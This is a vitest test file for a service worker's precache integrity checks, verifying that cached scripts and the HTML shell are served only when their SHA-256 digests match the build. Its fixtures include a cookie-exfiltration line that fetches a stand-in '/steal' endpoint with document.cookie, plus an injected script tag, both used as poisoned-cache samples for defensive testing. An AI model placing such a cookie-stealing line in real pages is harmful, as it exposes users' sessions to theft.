import { createHash } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { digestOf, digestsByUrl, entryUrlOfCacheKey, matchVerified, matchVerifiedShell, serveVerified, type CacheLike } from './precache-integrity.ts';

const REAL = 'export const app = "real";';
const POISON = 'fetch("http://127.0.0.1:9/steal?" + document.cookie);';
// The build's digest (Node, base64), as server/precache-digests.ts writes it.
const REAL_DIGEST = createHash('sha256').update(REAL).digest('base64');
const KEY = 'http://127.0.0.1:5317/assets/index-abc.js';

function mapCache(entries: Record<string, string> = {}): CacheLike & { bodies: Map<string, string> } {
  const bodies = new Map(Object.entries(entries));
  return {
    bodies,
    async match(key) {
      const body = bodies.get(key);
      return body === undefined ? undefined : new Response(body, { headers: { 'Content-Type': 'text/javascript', 'Cross-Origin-Resource-Policy': 'same-origin' } });
    },
    async put(key, response) {
      bodies.set(key, await response.text());
    },
  };
}

function network(body: string, status = 200) {
  const calls: string[] = [];
  return { calls, fetchFresh: async () => (calls.push('fetch'), new Response(body, { status, headers: { 'Content-Type': 'text/javascript' } })) };
}

describe('digestOf', () => {
  it('matches the digest Node writes at build time', async () => {
    expect(await digestOf(new TextEncoder().encode(REAL).buffer as ArrayBuffer)).toBe(REAL_DIGEST);
    expect(await digestOf(new TextEncoder().encode(POISON).buffer as ArrayBuffer)).not.toBe(REAL_DIGEST);
  });
});

describe('the manifest lookups', () => {
  it('keys digests by absolute URL and leaves out entries without one', () => {
    const digests = digestsByUrl([{ url: 'assets/a.js', revision: null, sha256: 'A' }, { url: 'index.html', revision: 'r1' }], 'http://h/sw.js');
    expect([...digests]).toEqual([['http://h/assets/a.js', 'A']]);
  });

  it("finds the manifest URL behind workbox's revisioned cache key", () => {
    expect(entryUrlOfCacheKey('http://h/index.html?__WB_REVISION__=abc')).toBe('http://h/index.html');
    expect(entryUrlOfCacheKey(KEY)).toBe(KEY);
  });
});

describe('serveVerified', () => {
  it('serves the cached copy, headers kept, without the network, when its digest matches', async () => {
    const cache = mapCache({ [KEY]: REAL });
    const net = network('unused');
    const response = await serveVerified({ cache, cacheKey: KEY, expected: REAL_DIGEST, fetchFresh: net.fetchFresh });
    expect(await response.text()).toBe(REAL);
    expect(response.headers.get('cross-origin-resource-policy')).toBe('same-origin');
    expect(net.calls).toEqual([]);
  });

  it('never serves a poisoned copy: goes to the network and saves the real file again', async () => {
    const cache = mapCache({ [KEY]: POISON });
    const net = network(REAL);
    const response = await serveVerified({ cache, cacheKey: KEY, expected: REAL_DIGEST, fetchFresh: net.fetchFresh });
    expect(await response.text()).toBe(REAL);
    expect(net.calls).toEqual(['fetch']);
    expect(cache.bodies.get(KEY)).toBe(REAL);
  });

  it('serves but does not save a network body with another digest (a newer deployment)', async () => {
    const cache = mapCache({ [KEY]: POISON });
    const response = await serveVerified({ cache, cacheKey: KEY, expected: REAL_DIGEST, fetchFresh: network('newer build').fetchFresh });
    expect(await response.text()).toBe('newer build');
    expect(cache.bodies.get(KEY)).toBe(POISON);
  });

  it('passes a network error status through, unsaved', async () => {
    const cache = mapCache();
    const response = await serveVerified({ cache, cacheKey: KEY, expected: REAL_DIGEST, fetchFresh: network('gone', 404).fetchFresh });
    expect(response.status).toBe(404);
    expect(cache.bodies.has(KEY)).toBe(false);
  });
});

describe('matchVerified', () => {
  it('is undefined for a missing or poisoned entry, the real copy otherwise', async () => {
    expect(await matchVerified(mapCache(), KEY, REAL_DIGEST)).toBeUndefined();
    expect(await matchVerified(mapCache({ [KEY]: POISON }), KEY, REAL_DIGEST)).toBeUndefined();
    expect(await (await matchVerified(mapCache({ [KEY]: REAL }), KEY, REAL_DIGEST))?.text()).toBe(REAL);
  });
});

describe('matchVerifiedShell', () => {
  const BUILT = '<!doctype html>\n<html>\n  <head>\n    <meta charset="UTF-8" />\n  </head>\n</html>\n';
  const SERVED = BUILT.replace('<head>\n', '<head>\n    <meta name="mcp-bridge-learner-code" content="not-enabled">\n    <meta name="mcp-bridge-shared" content="1">\n');
  const DIGEST = createHash('sha256').update(BUILT).digest('base64');

  it("accepts the server's copy (its bridge meta tags taken out) and serves it without them", async () => {
    const shell = await matchVerifiedShell(mapCache({ [KEY]: SERVED }), KEY, DIGEST);
    expect(await shell?.text()).toBe(BUILT);
  });

  it('refuses a shell changed in any other way', async () => {
    const poisoned = SERVED.replace('</head>', '<script src="data:text/javascript,evil()"></script></head>');
    expect(await matchVerifiedShell(mapCache({ [KEY]: poisoned }), KEY, DIGEST)).toBeUndefined();
    expect(await matchVerifiedShell(mapCache(), KEY, DIGEST)).toBeUndefined();
  });
});
